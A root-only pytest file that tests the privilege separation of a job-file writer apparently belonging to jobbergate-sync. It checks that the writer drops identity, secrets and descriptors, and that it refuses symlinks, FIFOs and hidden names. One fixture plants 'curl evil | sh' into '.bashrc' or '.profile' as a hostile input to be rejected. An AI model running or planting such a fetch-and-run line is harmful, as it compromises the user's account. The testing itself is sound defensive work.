"""Files are written by a program exec'd as the user: the privilege boundary, for real (as root)."""

from __future__ import annotations

import contextlib
import grp
import os
import pwd
import resource
import signal
import tempfile
import threading
import time
from pathlib import Path
from typing import Any, Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import jobbergate_sync
from fakes import CLIENT_SECRET, run
from jobbergate_sync import FileWriters, ItemError, LocalUser, Rejection
from properties import examples

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the privilege boundary exists only when running as root")

MANIFEST = ".jobbergate-sync-files"
# Put before the writer's loop: it stops itself when a request names a directory containing "stuck", as a
# user who SIGSTOPs the writer (it runs as them) would.
STOPS_WHEN_STUCK = """
real_stage = stage


def stage(directory, *rest):
    if "stuck" in directory:
        os.kill(os.getpid(), __import__("signal").SIGSTOP)
    return real_stage(directory, *rest)
"""


def writer_source(before_loop: str) -> str:
    loop = "\nchannel = socket.socket(fileno=0)\n"
    assert loop in jobbergate_sync.FILE_WRITER_SOURCE
    return jobbergate_sync.FILE_WRITER_SOURCE.replace(loop, before_loop + loop)


@pytest.fixture
def nobody() -> LocalUser:
    entry = pwd.getpwnam("nobody")
    return LocalUser(entry.pw_name, entry.pw_uid, entry.pw_gid, entry.pw_dir)


def staged(content: bytes) -> Any:
    handle = tempfile.TemporaryFile()
    handle.write(content)
    handle.flush()
    return handle


def write(user: LocalUser, directory: Path, files: list[tuple[str, Any]], file_mode: int = 0o600,
          replace: bool = False, timeout: float = 30) -> None:
    with contextlib.closing(FileWriters()) as writers:
        writers.write(user, str(directory), [(name, handle.fileno()) for name, handle in files], file_mode, replace,
                      timeout)


def children_of_this_process() -> dict[int, dict[str, str]]:
    """/proc/<pid>/status of each child of this process, by pid."""
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/status") as handle:
                status = dict(line.split(":\t", 1) for line in handle.read().splitlines() if ":\t" in line)
        except OSError:
            continue
        if int(status.get("PPid", "0")) == os.getpid():
            found[int(pid)] = status
    return found


def wait_for_stopped_child(uid: int) -> int:
    for _ in range(1000):
        for pid, status in children_of_this_process().items():
            if int(status["Uid"].split()[0]) == uid and status["State"].startswith("T"):
                return pid
        time.sleep(0.01)
    raise AssertionError("the writer never stopped")


def failure_of(action: Callable[[], None]) -> list[BaseException]:
    try:
        action()
    except BaseException as exc:
        return [exc]
    return []


def memory_holds(pid: int, needle: bytes) -> bool:
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or fields[-1] in ("[vvar]", "[vsyscall]"):
                continue
            try:
                memory.seek(start)
                if needle in memory.read(end - start):
                    return True
            except OSError:
                continue
    return False


def test_the_writer_has_the_users_identity_and_nothing_of_the_root_process(nobody, exec_root, monkeypatch):
    """The writer is exec'd: none of this process's memory (where the secrets are), descriptors or
    environment (it gets each request's sources with the request); the user's uid, gid and own groups
    only; not dumpable."""
    secret = ("never-in-the-writer-" + CLIENT_SECRET).encode()  # in this process's memory
    monkeypatch.setenv("JOBBERGATE_SYNC_OIDC_CLIENT_SECRET", secret.decode())
    monkeypatch.setattr(jobbergate_sync, "FILE_WRITER_SOURCE", jobbergate_sync.FILE_WRITER_SOURCE.replace(
        "PERMANENT = {", "import signal; os.kill(os.getpid(), signal.SIGSTOP)\nPERMANENT = {", 1))
    kept_open = open(__file__, "rb")  # stands for the journal, caches and sockets a pass holds open
    saved = os.getgroups()
    os.setgroups([0, grp.getgrnam("adm").gr_gid])  # root's extra groups must not reach the writer
    failures: list[BaseException] = []
    with staged(b"#!/bin/sh\n") as script, kept_open:
        writing = threading.Thread(target=lambda: failures.extend(failure_of(
            lambda: write(nobody, exec_root, [("job.sh", script)]))))
        writing.start()
        try:
            pid = wait_for_stopped_child(nobody.uid)
            status = children_of_this_process()[pid]
            descriptors = {int(fd): os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")}
            environment = Path(f"/proc/{pid}/environ").read_bytes()
            in_memory = memory_holds(pid, secret)
            proc_owner = os.stat(f"/proc/{pid}/mem").st_uid
        finally:
            os.setgroups(saved)
            os.kill(pid, signal.SIGKILL)
            writing.join()
    assert status["Uid"].split() == [str(nobody.uid)] * 4
    assert status["Gid"].split() == [str(nobody.gid)] * 4
    assert sorted(map(int, status["Groups"].split())) == sorted(set(os.getgrouplist("nobody", nobody.gid)))
    assert int(status["CapEff"], 16) == int(status["CapPrm"], 16) == 0
    assert set(descriptors) == {0, 1, 2}, descriptors
    assert descriptors[0].startswith("socket:") and descriptors[1] == descriptors[2] == "/dev/null"
    assert environment == b""
    assert not in_memory
    assert proc_owner == 0  # /proc/<pid> of a process that is not dumpable belongs to root
    assert len(failures) == 1 and isinstance(failures[0], ItemError)  # killed: the item fails, nothing else


def test_files_are_written_owned_by_the_user_with_the_configured_mode(nobody, exec_root):
    target = exec_root / "new" / "deeper"
    with staged(b"#!/bin/sh\n") as script, staged(b"data") as data:
        write(nobody, target, [("job.sh", script), ("d.txt", data)])
    assert (target / "job.sh").read_bytes() == b"#!/bin/sh\n"
    assert (target / "d.txt").read_bytes() == b"data"
    for path in (target / "job.sh", target / "d.txt"):
        assert (path.stat().st_uid, oct(path.stat().st_mode & 0o7777)) == (nobody.uid, "0o600")
    for path in (target, target.parent):
        assert (path.stat().st_uid, oct(path.stat().st_mode & 0o7777)) == (nobody.uid, "0o700")
    with staged(b"x") as data:
        write(nobody, exec_root / "shared", [("d.txt", data)], file_mode=0o640)
    assert oct((exec_root / "shared").stat().st_mode & 0o777) == "0o750"
    assert oct((exec_root / "shared" / "d.txt").stat().st_mode & 0o777) == "0o640"


def test_a_file_the_tool_wrote_is_replaced_one_the_user_wrote_or_changed_is_left_alone(nobody, exec_root):
    with staged(b"first") as first, staged(b"second") as second:
        write(nobody, exec_root, [("job.sh", first), ("results.csv", first)])
        write(nobody, exec_root, [("job.sh", second)])  # written by the tool: replaced
        assert (exec_root / "job.sh").read_bytes() == b"second"
        (exec_root / "results.csv").write_bytes(b"the user's own results")  # changed since
        (exec_root / "notes.txt").write_bytes(b"the user's notes")  # never written by the tool
        for name in ("results.csv", "notes.txt"):
            with pytest.raises(Rejection, match=rf"{name} exists and jobbergate-sync did not write it"):
                write(nobody, exec_root, [("job.sh", first), (name, second)])
        assert (exec_root / "results.csv").read_bytes() == b"the user's own results"
        assert (exec_root / "notes.txt").read_bytes() == b"the user's notes"
        assert (exec_root / "job.sh").read_bytes() == b"second"  # nothing written when one file is refused
        write(nobody, exec_root, [("notes.txt", second)], replace=True)  # [submit] replace_files = true
    assert (exec_root / "notes.txt").read_bytes() == b"second"


def test_a_failed_write_leaves_the_old_file_whole(nobody, exec_root):
    with staged(b"precious,data\n" * 1000) as old, staged(b"x" * (3 << 20)) as big:
        write(nobody, exec_root, [("results.csv", old)])
        limits = resource.getrlimit(resource.RLIMIT_FSIZE)
        resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 20, limits[1]))  # the writer inherits it: a full disk
        try:
            with pytest.raises(ItemError, match="cannot write .*/results.csv: File too large"):
                write(nobody, exec_root, [("results.csv", big)])
        finally:
            resource.setrlimit(resource.RLIMIT_FSIZE, limits)
    assert (exec_root / "results.csv").read_bytes() == b"precious,data\n" * 1000
    assert sorted(os.listdir(exec_root)) == [MANIFEST, "results.csv"]  # no temporary file left behind


def test_a_planted_symlink_is_not_followed(nobody, exec_root, tmp_path):
    victim = Path(tempfile.mkdtemp()) / "root-owned.conf"
    victim.write_text("precious\n")
    victim.chmod(0o666)  # even a file the user could write is not reached through the link
    victim.parent.chmod(0o755)
    (exec_root / "job.sh").symlink_to(victim)
    with staged(b"#!/bin/sh\nevil\n") as script:
        with pytest.raises(Rejection, match=r"job\.sh is a symbolic link; refusing to write through it"):
            write(nobody, exec_root, [("job.sh", script)], replace=True)
    assert victim.read_text() == "precious\n"


def test_a_root_only_directory_cannot_be_written_through(nobody, exec_root):
    protected = exec_root / "protected"
    protected.mkdir(mode=0o755)  # root-owned
    with staged(b"x") as data:
        with pytest.raises(Rejection, match="is not writable by the job's user"):
            write(nobody, protected, [("f", data)])
        with pytest.raises(Rejection, match="cannot create execution directory .*/protected/sub: Permission denied"):
            write(nobody, protected / "sub", [("f", data)])
    assert list(protected.iterdir()) == []


def test_execution_directory_that_is_a_symlink_or_a_file(nobody, exec_root):
    real = exec_root / "real"
    real.mkdir()
    os.chown(real, nobody.uid, nobody.gid)
    (exec_root / "link").symlink_to(real)
    (exec_root / "file").write_text("")
    with staged(b"x") as data:
        with pytest.raises(Rejection, match="is a symbolic link; give the real directory"):
            write(nobody, exec_root / "link", [("f", data)])
        with pytest.raises(Rejection, match="is not a directory"):
            write(nobody, exec_root / "file", [("f", data)])
    assert list(real.iterdir()) == []


def test_a_fifo_in_place_of_a_file_is_refused_without_blocking(nobody, exec_root):
    os.mkfifo(exec_root / "job.sh")
    os.chown(exec_root / "job.sh", nobody.uid, nobody.gid)
    with staged(b"x") as data:
        with pytest.raises(Rejection, match="job.sh exists and is not a regular file"):
            write(nobody, exec_root, [("job.sh", data)], replace=True)


def test_a_crashing_writer_is_an_item_error_not_a_rejection(nobody, exec_root, monkeypatch):
    monkeypatch.setattr(jobbergate_sync, "FILE_WRITER_SOURCE", "import sys\nsys.exit('the writer broke')\n")
    with staged(b"x") as data:
        with pytest.raises(ItemError, match=r"the writer ended without answering \(exit status 1\)"):
            write(nobody, exec_root, [("job.sh", data)])


def test_a_stopped_writer_is_killed_at_its_time_limit(nobody, exec_root, monkeypatch):
    monkeypatch.setattr(jobbergate_sync, "FILE_WRITER_SOURCE", writer_source(STOPS_WHEN_STUCK))
    with staged(b"x") as data:
        with pytest.raises(ItemError, match=r"writing files to .*/stuck as nobody: the writer did not finish within 0.5 s; "
                                            "it was killed"):
            write(nobody, exec_root / "stuck", [("job.sh", data)], timeout=0.5)
    assert children_of_this_process() == {}


def test_a_stopped_writer_fails_only_its_own_submission(stack, config_file, email, exec_root, monkeypatch, capsys):
    """A user who stops the writer (it runs as them) holds nothing: it is killed at its time limit, their
    submission is left for the next pass, and the next user's submission goes on."""
    monkeypatch.setattr(jobbergate_sync, "FILE_WRITER_SOURCE", writer_source(STOPS_WHEN_STUCK))
    monkeypatch.setattr(jobbergate_sync, "writer_timeout", lambda total_bytes, remaining: 0.5)
    stack.api.add_submission(1, email=email, execution_directory=str(exec_root / "stuck"))
    stack.api.add_submission(2, email=email, execution_directory=str(exec_root / "fine"))
    assert run(config_file(**{"run.workers": 1})) == 1
    assert [stack.api.status(1), stack.api.status(2)] == ["CREATED", "SUBMITTED"]
    assert "the writer did not finish within 0.5 s; it was killed" in capsys.readouterr().err
    assert children_of_this_process() == {}


def test_one_writer_serves_all_of_a_users_submissions_in_a_pass(stack, config_file, email, exec_root, monkeypatch):
    started = []
    real_popen = jobbergate_sync.subprocess.Popen

    def counting_popen(argv, *args, **kwargs):
        started.append(argv)
        return real_popen(argv, *args, **kwargs)

    monkeypatch.setattr(jobbergate_sync.subprocess, "Popen", counting_popen)
    for number in (1, 2, 3):
        stack.api.add_submission(number, {"job.sh": b"#!/bin/sh\n", "in.dat": b"%d" % number}, email=email,
                                 execution_directory=str(exec_root / f"run-{number}"), script_id=7)
    assert run(config_file()) == 0
    assert [stack.api.status(number) for number in (1, 2, 3)] == ["SUBMITTED"] * 3
    assert len(started) == 1 and started[0][1:4] == ["-I", "-S", "-c"]
    assert all((exec_root / f"run-{number}" / "in.dat").exists() for number in (1, 2, 3))
    assert children_of_this_process() == {}  # ended with the submit phase


def test_the_writer_keeps_no_descriptor_between_requests(nobody, exec_root):
    with contextlib.closing(FileWriters()) as writers, staged(b"x") as data:
        for number in range(3):
            writers.write(nobody, str(exec_root / f"run-{number}"), [("job.sh", data.fileno())], 0o600, False, 30)
        (writer,) = writers.writers.values()
        assert sorted(map(int, os.listdir(f"/proc/{writer.process.pid}/fd"))) == [0, 1, 2]


def accepted(name: str) -> bool:
    """A name a submission may give a file (parse_pending's check, and not hidden)."""
    try:
        jobbergate_sync.validated_filename(name)
    except Rejection:
        return False
    return not name.startswith(".")


FILE_NAMES = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40).filter(accepted)


@settings(max_examples=examples(25), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(files=st.dictionaries(FILE_NAMES, st.binary(max_size=3000), min_size=1, max_size=5))
def test_any_accepted_names_are_written_as_given_and_nothing_else_anywhere(nobody, exec_root, files):
    directory = exec_root / f"run-{len(os.listdir(exec_root))}"
    before = set(os.listdir(exec_root))
    handles = {name: staged(content) for name, content in files.items()}
    try:
        write(nobody, directory, list(handles.items()))
    finally:
        for handle in handles.values():
            handle.close()
    assert set(os.listdir(exec_root)) == before | {directory.name}
    assert sorted(os.listdir(directory)) == sorted([*files, MANIFEST])
    assert {name: (directory / name).read_bytes() for name in files} == files


def test_the_writer_time_limit_grows_with_the_bytes_and_stops_at_the_deadline():
    small, large = jobbergate_sync.writer_timeout(0, 1000), jobbergate_sync.writer_timeout(100 << 20, 1000)
    assert small < large <= 1000
    assert jobbergate_sync.writer_timeout(100 << 20, 3) == jobbergate_sync.DEADLINE_GRACE_TIMEOUT  # past the deadline


@pytest.mark.parametrize("directory, message", [
    ("relative/dir", "'relative/dir' is not an absolute path"),
    ("/etc", "execution directory /etc is not writable by the job's user"),
])
def test_submissions_with_bad_execution_directories_are_rejected(stack, config_file, email, directory, message):
    stack.api.add_submission(1, email=email, execution_directory=directory)
    assert run(config_file()) == 0
    assert stack.api.status(1) == "REJECTED"
    assert message in stack.api.submissions[1]["report_message"]
    assert stack.slurm.submitted == []


@pytest.mark.parametrize("name", [".bashrc", ".profile", ".jobbergate-sync-files"])
def test_hidden_file_names_are_refused(stack, config_file, email, exec_root, name):
    stack.api.add_submission(1, {"job.sh": b"#!/bin/sh\n", name: b"curl evil | sh\n"}, email=email)
    assert run(config_file()) == 0
    assert stack.api.status(1) == "REJECTED"
    assert f"names start with '.' ({name})" in stack.api.submissions[1]["report_message"]
    assert not any(exec_root.rglob(name))
